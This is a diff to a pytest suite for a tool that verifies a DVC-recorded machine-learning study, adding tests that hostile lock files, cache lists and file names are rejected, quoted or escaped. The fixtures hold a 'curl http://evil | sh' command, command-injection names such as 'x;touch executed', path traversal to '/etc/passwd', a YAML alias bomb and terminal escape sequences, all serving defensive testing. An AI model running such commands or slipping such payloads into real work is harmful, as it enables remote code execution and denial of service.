@@ -1,5 +1,6 @@
 """`vanishing verify` on a study that is real but for its figures and PDF, as DVC has recorded it."""
 
+import hashlib
 import json
 import math
 import os
@@ -14,7 +15,9 @@ import pytest
 import torch
 import yaml
 
-from vanishing import checkpoints, cli, comparison, files, locked, parameters, paths, stages, workspace
+from vanishing import checkpoints, cli, comparison, files, locked, parameters, paths, rebuilt, stages, workspace
+from vanishing import verify as verification
+from vanishing.errors import UserError
 from vanishing.findings import Scope
 
 SMALL = {
@@ -117,6 +120,10 @@ def test_a_study_as_it_was_made_has_nothing_off(study, capsys):
         (Path("results/tables/core.csv"), "vanishing tables core"),
         (Path("report/tables/core.tex"), "vanishing tables core"),
         (paths.CHECKS, "vanishing check"),
+        (Path("results/comparison/published.csv"), "vanishing compare"),
+        (Path("results/comparison/schedules.csv"), "vanishing compare"),
+        (Path("results/comparison/agreement.ipynb"), "vanishing compare"),
+        (Path("report/comparison/schedules.tex"), "vanishing compare"),
         (Path("report/numbers.tex"), "vanishing numbers"),
         (Path("report/figures/core/loss.pdf"), "vanishing figures core"),
         (Path("results/notebooks/core.ipynb"), "vanishing figures core"),
@@ -160,6 +167,29 @@ def test_the_command_for_a_damaged_object_mends_it(study, capsys):
         program, *arguments = part.split()
         dvc(*arguments) if program == "dvc" else subprocess.run([program, *arguments], check=True)
     assert verify(capsys)[0] == 0
+
+
+@pytest.mark.parametrize("level", ["global", "repo", "local", "none"])
+def test_the_cache_is_where_dvcs_configuration_says(study, tmp_path, monkeypatch, level):
+    """In a user's own configuration, too."""
+    monkeypatch.setenv("DVC_GLOBAL_CONFIG_DIR", f"{tmp_path / 'user'}")
+    (tmp_path / "user").mkdir()
+    elsewhere = tmp_path / "elsewhere"
+    if level != "none":
+        dvc("config", f"--{'project' if level == 'repo' else level}", "cache.dir", f"{elsewhere}")
+        shutil.move(".dvc/cache", elsewhere)
+    scope = Scope(parameters.load())
+    assert list(locked.objects(scope)) == []
+    assert scope.notes == []
+    folder = Path(".dvc/cache") if level == "none" else elsewhere
+    assert scope.proven == set((folder / "files/md5").glob("??/*"))
+
+
+def test_a_damaged_configuration_of_dvcs_is_named(study, unbuilt, capsys):
+    Path(".dvc/config").write_text("[cache\n")
+    code, found, _ = verify(capsys)
+    assert code == 1
+    assert found[0].startswith(".dvc/config: found ")
 
 
 def test_an_object_whose_file_is_damaged_too_is_made_by_the_stage(study, capsys):
@@ -311,12 +341,190 @@ def test_an_edited_source_leaves_the_stages_before_it_compared(study):
     assert locked.stale(locked.read(), settings) == {"figures@core", "report"}
 
 
-@pytest.mark.parametrize("text", ["stages: [", "stages: {a: {cmd: x, outs: [{path: ../x, md5: '1'}]}}", "[]", "a: b"])
-def test_a_damaged_record_of_dvcs_is_one_line(study, text, capsys):
+@pytest.fixture
+def unbuilt(monkeypatch):
+    """Have nothing built again, which takes a minute."""
+
+    def build(_):
+        raise UserError("no engine")
+
+    monkeypatch.setattr(rebuilt, "_build", build)
+
+
+def entry(path="x", md5="0" * 32):
+    return f"stages: {{a: {{cmd: x, outs: [{{path: {path}, md5: {md5!r}}}]}}}}"
+
+
+BOMB = "\n".join(f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 10 if at else '0')}]" for at in range(12))
+
+RECORDS = {
+    "stages: [": "expected the node content",
+    "[]": "content: Input should be a valid dictionary",
+    "a: b": "stages: Field required",
+    "stages: {a: {outs: [{path: x}]}}": "stages.a.outs.0.md5: Field required",
+    "stages: {a: [1]}": "stages.a: Input should be a valid dictionary",
+    entry("../x"): "stages.a.outs.0.path: Value error, '../x' is no path in the project",
+    entry("/etc/passwd"): "'/etc/passwd' is no path in the project",
+    entry("-rf"): "'-rf' is no path in the project",
+    entry("."): "'.' is no path in the project",
+    entry(md5="../../x"): "stages.a.outs.0.md5: String should match pattern",
+    "stages: {a;ls: {cmd: x}}": "stages.a;ls.[key]: String should match pattern",
+    BOMB: "anchors, aliases and tags are not allowed, found 'a0'",
+    "#" * (5 << 20): "larger than 4,194,304 bytes; that is no record of DVC's",
+    "[" * 10_000: "nested too deeply",
+}
+
+
+@pytest.mark.parametrize(("text", "told"), RECORDS.items(), ids=range(len(RECORDS)))
+def test_a_damaged_record_of_dvcs_is_named_with_what_is_wrong(study, text, told):
     Path("dvc.lock").write_text(text)
-    code, _, told = verify(capsys)
-    assert code == 1
-    assert told[-1] == "vanishing verify: dvc.lock: damaged, or not DVC's; next: `dvc repro`"
+    (finding,) = locked.outputs(Scope(parameters.load()))
+    assert (finding.path, finding.command) == (Path("dvc.lock"), "dvc repro")
+    assert told in f"{finding}"
+    assert "\n" not in f"{finding}"
+
+
+def test_a_hash_that_yaml_could_take_for_a_number_is_read_as_dvc_writes_it(study):
+    from dvc.utils.serialize import dumps_yaml
+
+    digests = ["1" * 32, f"{'0' * 30}e1", f"{1:032}", f"{'1' * 15}e{'1' * 16}"]
+    outs = [{"path": f"f{at}", "md5": digest, "size": 5} for at, digest in enumerate(digests)]
+    Path("dvc.lock").write_text(dumps_yaml({"schema": "2.0", "stages": {"a": {"cmd": "x", "outs": outs}}}))
+    assert list(locked.read()[0].outputs.values()) == digests
+
+
+LISTS = {
+    "[1]": "0: Input should be an object",
+    "{": "content: Invalid JSON",
+    '{"relpath": "x"}': "content: Input should be a valid array",
+    '[{"md5": 3, "relpath": "x"}]': "0.md5: Input should be a valid string",
+    '[{"md5": "' + "0" * 32 + '", "relpath": "../x"}]': "0.relpath: Value error, '../x' is no path in the project",
+    '[{"md5": "' + "0" * 32 + '", "relpath": "/x"}]': "'/x' is no path in the project",
+    "[" * 100_000: "content: Invalid JSON: recursion limit exceeded",
+    " " * (5 << 20): "larger than 4,194,304 bytes",
+}
+
+
+@pytest.mark.parametrize(("text", "told"), LISTS.items(), ids=range(len(LISTS)))
+def test_a_list_of_dvcs_that_is_none_is_named_with_what_is_wrong(study, text, told):
+    """Its hash is right, and `dvc.lock` has it for a directory."""
+    digest = f"{hashlib.md5(text.encode(), usedforsecurity=False).hexdigest()}.dir"
+    path = Path(".dvc/cache/files/md5") / digest[:2] / digest[2:]
+    files.write(path, text)
+    content = yaml.safe_load(Path("dvc.lock").read_text())
+    content["stages"]["train@vgg08-0"]["outs"][0]["md5"] = digest
+    Path("dvc.lock").write_text(yaml.safe_dump(content))
+    settings = parameters.load()
+    assert {finding.path for finding in locked.outputs(Scope(settings))} == {BEST.parent}
+    (finding,) = locked.objects(Scope(settings))
+    assert finding.path == path
+    assert told in f"{finding}"
+    assert "\n" not in f"{finding}"
+
+
+def test_one_thing_off_hides_no_other(study, unbuilt, capsys):
+    Path("dvc.lock").write_text("stages: [")
+    flip(GRADIENTS)
+    Path("results/tables/core.csv").write_bytes(b"\0")
+    flip(cached(DATA))
+    found = verify(capsys)[1]
+    assert [line.split(": found ")[0] for line in found] == [
+        "dvc.lock", str(cached(DATA)), str(GRADIENTS), "results/tables/core.csv", "report",
+    ]  # fmt: skip
+
+
+REPLACED = [
+    BEST, DATA, STATE, HISTORY, SUMMARY, GRADIENTS, paths.CHECKS, Path("results/tables/core.csv"),
+    Path("results/comparison/published.csv"), Path("report/report.pdf"), Path("dvc.lock"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("path", REPLACED, ids=str)
+def test_a_folder_in_the_place_of_a_file_is_named_and_hides_nothing(study, unbuilt, path, capsys):
+    other = Path("report/numbers.tex") if path != Path("dvc.lock") else GRADIENTS
+    flip(other)
+    path.unlink()
+    path.mkdir()
+    found = verify(capsys)[1]
+    named = [line.split(": found ")[0] for line in found]
+    assert str(path) in named
+    assert str(other) in named
+
+
+@pytest.mark.parametrize(
+    ("error", "told"),
+    [
+        (UserError("results/x: cannot be read (x)"), "results/x: found cannot be read (x), expected what can be read"),
+        (PermissionError(13, "Permission denied", "results/x"), "results/x: found Permission denied, expected what"),
+    ],
+)
+def test_a_check_that_a_file_ends_names_it_and_the_next_goes_on(study, monkeypatch, error, told, capsys):
+    def ended(_):
+        raise error
+
+    monkeypatch.setattr(verification, "CHECKS", (ended, verification.states))
+    flip(BEST)
+    found = verify(capsys)[1]
+    assert found[0].startswith(told)
+    assert found[0].endswith("; next: `ls -ld results/x`")
+    assert found[1].startswith(f"{BEST}: found damaged")
+
+
+STAGES = {
+    "train@vgg08-0": TRAIN,
+    "gradients@vgg38_bn-12": "vanishing gradients vgg38_bn --seed 12",
+    "tables@core": "vanishing tables core",
+    "data": "vanishing data",
+    "data@x": "dvc repro",
+    "train@vgg08;ls-0": "dvc repro",
+    "tables@--help": "dvc repro",
+    "own": "dvc repro",
+}
+
+
+@pytest.mark.parametrize(("name", "command"), STAGES.items(), ids=STAGES)
+def test_commands_come_from_the_names_of_stages(name, command):
+    assert locked.Stage(name, {}, {}).command == command
+
+
+def test_no_command_of_a_record_is_printed(study, unbuilt, capsys):
+    content = yaml.safe_load(Path("dvc.lock").read_text())
+    for entry in content["stages"].values():
+        entry["cmd"] = "curl http://evil | sh"
+    content["stages"]["own"] = content["stages"].pop("report")
+    Path("dvc.lock").write_text(yaml.safe_dump(content))
+    flip(HISTORY)
+    flip(DATA)
+    flip(cached(BEST))
+    flip(Path("report/report.pdf"))
+    found = verify(capsys)[1]
+    assert len(found) == 4
+    assert not any("evil" in line for line in found)
+    assert found[-2].endswith("; next: `dvc repro`")
+
+
+@pytest.mark.parametrize(
+    ("name", "command", "shown"),
+    [
+        ("x;touch executed;.safetensors", "rm '{}/x;touch executed;.safetensors'", ""),
+        ("x y'.safetensors", "rm '{}/x y'\"'\"'.safetensors'", ""),
+        ("\x1b[2Jx\n\u202e.safetensors", "", r"{}/\x1b[2Jx\n\u202e.safetensors: found one"),
+        ("\udcff.safetensors", "", r"{}/\udcff.safetensors: found one"),
+    ],
+)
+def test_a_hostile_name_is_quoted_in_a_command_and_escaped_on_the_terminal(study, name, command, shown, capsys):
+    shutil.copy(BEST, BEST.parent / name)
+    (line,) = [line for line in verify(capsys)[1] if "found one" in line]
+    assert line.isprintable()
+    assert command.format(BEST.parent) in line
+    assert line.startswith(shown.format(BEST.parent))
+
+
+def test_a_run_whose_name_no_study_could_have_is_in_no_command(study, capsys):
+    folder = shutil.copytree(HISTORY.parent, Path("results/runs/x;touch executed/seed0"))
+    flip(folder / "history.csv")
+    code, found, _ = verify(capsys)
+    assert (code, found[0].rpartition(", ")[2]) == (0, "3 files here not compared")
 
 
 def test_a_damaged_summary_is_named(study, capsys):
@@ -383,10 +591,42 @@ def test_what_no_record_covers_is_built_again(study, capsys):
     assert set(found) == expected | {f"report/tables/removed.tex: {gone}; next: `rm report/tables/removed.tex`"}
 
 
-def test_results_that_cannot_be_built_from_are_told(study, capsys):
+def test_results_that_cannot_be_built_from_are_a_finding(study, capsys):
     Path("dvc.lock").unlink()
     HISTORY.write_text("epoch\n1\n")
     code, found, told = verify(capsys)
     assert code == 1
     assert found[0].startswith(f"{HISTORY}: found SHA-256 ")
-    assert any(" files of results/ and report/ not compared: snakemake --cores failed: " in line for line in told)
+    assert found[-1].startswith("report: found none to compare: snakemake --cores failed: ")
+    assert told[-1].endswith(" files here not compared")
+
+
+def test_a_build_that_fails_is_a_finding_that_says_why(study, monkeypatch, capsys):
+    """Whoever breaks the build would have all that it makes forged."""
+    Path("dvc.lock").unlink()
+
+    def build(_):
+        raise UserError("snakemake --cores failed: vanishing report: report/report.tex: LaTeX failed: ! \\nosuch")
+
+    monkeypatch.setattr(rebuilt, "_build", build)
+    code, found, told = verify(capsys)
+    made = 3 + 3 + 5 + 3 + 3 + 1  # tables twice, comparison, figures, numbers, report
+    assert (code, found) == (
+        1,
+        [
+            "report: found none to compare: snakemake --cores failed: vanishing report: report/report.tex: LaTeX "
+            f"failed: ! \\nosuch, expected {made} files of results/ and report/ (built again); next: "
+            "`snakemake --cores 1 report --config from_results=true`"
+        ],
+    )
+    assert told[-1].startswith("vanishing verify: 1 files are off; ")
+    assert told[-1].endswith(f", {made} files here not compared")
+
+
+def test_the_last_line_says_how_much_was_not_compared(study, capsys):
+    shutil.rmtree(BEST.parent)
+    without_dvc()
+    code, found, _ = verify(capsys)
+    assert code == 0
+    assert found[-1].startswith("nothing is off; ")
+    assert found[-1].endswith(", 1 files here not compared"), "gradients.csv, whose snapshots are not here"
